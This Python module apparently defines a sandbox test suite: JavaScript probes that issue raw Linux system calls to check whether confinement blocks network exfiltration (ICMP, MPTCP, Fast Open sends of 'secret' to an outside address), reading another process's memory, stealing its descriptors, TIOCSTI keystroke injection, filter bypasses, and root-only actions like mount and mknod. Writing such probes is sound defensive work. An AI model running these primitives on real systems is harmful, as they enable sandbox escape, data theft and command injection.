"""The attacks by system calls, in JavaScript: see attack_node_kernel.py for how they are made."""

from __future__ import annotations

from attack_node_files import ROOM
from attack_node_kernel import SYSCALLS
from attack_probe import Probe


def _probe(
    name: str, kind: str, why: str, source: str, *, root: bool = False, **more: str
) -> Probe:
    return Probe(name, kind, why, SYSCALLS + source, root=root, limits=ROOM, **more)


PROBES = (
    _probe(
        "unix-sockets-by-abstract-name",
        "unix-sockets",
        "Abstract names are files of no file system: only the network's namespace hides them.",
        r"""
for (const name of W.sockets) if (name.startsWith("@")) attempt(() => {
  const address = Buffer.from(`\x01\0${name.replace("@", "\0")}`)
  const reached = syscall("socket", 1, 1, 0)
  syscall("connect", reached, put(address), address.length)
  fs.writeSync(reached, "word\n")
})
""",
    ),
    _probe(
        "vsock-listens",
        "vsock",
        "A virtual machine's socket is in no network namespace: the hypervisor can be reached.",
        """
const bound = syscall("socket", 40, 1, 0)
syscall("bind", bound, put(packed(40, -1, -1, 0)), 16)
syscall("listen", bound, 1)
got()
""",
    ),
    _probe(
        "vsock-family-with-high-bits",
        "vsock",
        "A filter that compares 64 bits lets a family through that the kernel cuts to 32.",
        "syscall('socket', 40n | 1n << 32n, 1, 0)\ngot()\n",
    ),
    _probe(
        "netlink-lists-links",
        "raw",
        "The kernel's own protocol tells, and for root changes, interfaces and routes.",
        """
const asked = syscall("socket", 16, 3, 0)
fs.writeSync(asked, Buffer.concat([packed(36, 0x3010012, 1, 0), Buffer.alloc(20)]))
if (fs.readSync(asked, Buffer.alloc(65536)) > 100) got()
""",
    ),
    _probe(
        "packets-of-all-kinds",
        "raw",
        "Whole frames pass by every rule about connections.",
        "syscall('socket', 17, 3, 0x300)\ngot()\n",
        root=True,
    ),
    _probe(
        "icmp-echo",
        "icmp",
        "An echo request carries words, and is rarely thought of.",
        """
const asked = syscall("socket", 2, 2, 1)
for (const address of ["127.0.0.1", "93.184.216.34"]) {
  syscall("connect", asked, inet(address, 0), 16)
  fs.writeSync(asked, Buffer.concat([packed(8, 0), Buffer.from("secret")]))
}
""",
    ),
    _probe(
        "mptcp-connects",
        "mptcp",
        "A second TCP has a number of its own, which a rule about the first does not name.",
        """
for (const address of ["127.0.0.1", "93.184.216.34"]) attempt(() =>
  syscall("connect", syscall("socket", 2, 1, 262), inet(address, 443), 16))
""",
    ),
    _probe(
        "fast-open-sends",
        "fast-open",
        "Fast Open connects without the call that connects.",
        """
const data = put("secret")
for (const address of ["127.0.0.1", "93.184.216.34"]) attempt(() =>
  syscall("sendto", syscall("socket", 2, 1, 0), data, 6, 0x20000000, inet(address, 80), 16))
""",
    ),
    _probe(
        "io-uring-is-set-up",
        "io-uring",
        "A ring makes system calls that no filter sees.",
        "syscall('io_uring_setup', 4, put(Buffer.alloc(120)))\ngot()\n",
    ),
    _probe(
        "userfaultfd-is-made",
        "userfaultfd",
        "Holding a page fault open for as long as one likes wins races in the kernel.",
        "syscall('userfaultfd', 1)\ngot()\n",
    ),
    _probe(
        "bpf-map",
        "bpf",
        "Maps and programs in the kernel are its richest surface.",
        """
syscall("bpf", 0, put(Buffer.concat([packed(2, 4, 8, 1), Buffer.alloc(112)])), 128)
got()
""",
        root=True,
    ),
    _probe(
        "perf-counts-this-process",
        "perf",
        "Performance counters are a side channel and a big surface.",
        """
const head = packed(1, 112, 1n, 0n, 0n, 0n, 96n)
syscall("perf_event_open", put(Buffer.concat([head, Buffer.alloc(64)])), 0, -1, -1, 0)
got()
""",
    ),
    _probe(
        "keyring-of-the-session",
        "keyrings",
        "The session's ring holds the host's keys of file systems and of Kerberos.",
        "syscall('keyctl', 0, -3, 1)\ngot()\n",
    ),
    _probe(
        "memory-without-randomness",
        "proc",
        "Programs started at known addresses make a bug in a setuid one easy to use.",
        "syscall('personality', 0x0040000)\ngot()\n",
    ),
    _probe(
        "memory-hidden-from-the-kernel",
        "memory",
        "Secret memory cannot be reclaimed, and is counted by no limit on data.",
        "syscall('memfd_secret', 0)\ngot()\n",
    ),
    _probe(
        "shared-memory-stays",
        "sysv-ipc",
        "A segment outlives its maker, and is memory that no process is charged for.",
        "syscall('shmget', 0x60b, 1 << 20, 0o1666)\n",
    ),
    _probe(
        "queues-and-semaphores-stay",
        "sysv-ipc",
        "A queue outlives its maker, and carries a word to the next guest.",
        "syscall('semget', 0x60b, 4, 0o1666)\nsyscall('msgget', 0x60b, 0o1666)\n",
    ),
    _probe(
        "named-queue-stays",
        "posix-ipc",
        "A named queue is a file that outlives its maker.",
        "syscall('mq_open', put('planted'), 0o102, 0o666, 0)\n",
    ),
    _probe(
        "reads-another-process",
        "ptrace",
        "Reading memory across processes finds whatever another one holds.",
        """
const [into, size] = [put(Buffer.alloc(200)), 130n]
for (const pid of [W.victim, 1]) attempt(() => {
  const [near, far] = [BigInt(into), BigInt(W.victim_address)].map((at) => put(packed(at, size)))
  syscall("process_vm_readv", pid, near, 1, far, 1, 0)
  say(taken(into, 130))
})
""",
    ),
    _probe(
        "takes-a-descriptor",
        "ptrace",
        "A descriptor taken from another process reads a file that could never be opened.",
        "show(syscall('pidfd_getfd', syscall('pidfd_open', W.victim, 0), W.victim_fd, 0))\n",
    ),
    _probe(
        "keystrokes-into-a-terminal",
        "tiocsti",
        "Pushed keystrokes are typed into whoever reads the terminal next: the user's shell.",
        """
const flags = fs.constants.O_RDWR | fs.constants.O_NOCTTY
const master = fs.openSync("/dev/ptmx", flags)
const number = put(packed(0))
syscall("ioctl", master, 0x40045431, number)
syscall("ioctl", master, 0x80045430, number)
const slave = fs.openSync(`/dev/pts/${taken(number, 4).readUInt32LE()}`, flags)
attempt(() => syscall("setsid"))
attempt(() => syscall("ioctl", slave, 0x540e, 0))
attempt(() => { syscall("ioctl", slave, 0x5412, put("x")); got() })
attempt(() => { syscall("ioctl", slave, 0x5412n | 1n << 32n, put("x")); got() })
""",
    ),
    _probe(
        "kernel-log-is-read",
        "identity",
        "The kernel's log holds addresses, devices and what other programs did.",
        "if (syscall('syslog', 3, free, 1 << 15) > 0) got()\n",
        root=True,
    ),
    _probe(
        "clock-is-set",
        "clock",
        "A clock that is wrong makes certificates valid and logs useless.",
        """
const now = put(Buffer.alloc(16))
syscall("clock_gettime", 0, now)
syscall("clock_settime", 0, now)
got()
""",
        root=True,
    ),
    _probe(
        "mounts-a-file-system",
        "mounts",
        "Who mounts decides what every path means.",
        "syscall('mount', put('none'), put('/tmp'), put('tmpfs'), 0, 0)\ngot()\n",
        root=True,
        control="confined",
    ),
    _probe(
        "changes-its-root",
        "chroot",
        "From a root of one's own, setuid programs read one's own files.",
        "syscall('chroot', put('/'))\ngot()\n",
        root=True,
    ),
    _probe(
        "makes-a-device",
        "mounts",
        "A device file of one's own reaches the disk below all files.",
        """
syscall("mknodat", -100, put("/tmp/disk"), 0o60666, 7 << 8)
got()
""",
        root=True,
    ),
    _probe(
        "leaves-the-network-namespace",
        "namespaces",
        "A namespace of one's own comes with powers in it: the ground of many kernel bugs.",
        "syscall('unshare', 0x40000000)\ngot()\n",
        root=True,
    ),
    _probe(
        "renames-the-host",
        "identity",
        "The host's name is what others know it by.",
        "syscall('sethostname', put('planted'), 7)\ngot()\n",
        root=True,
        control="confined",
    ),
)
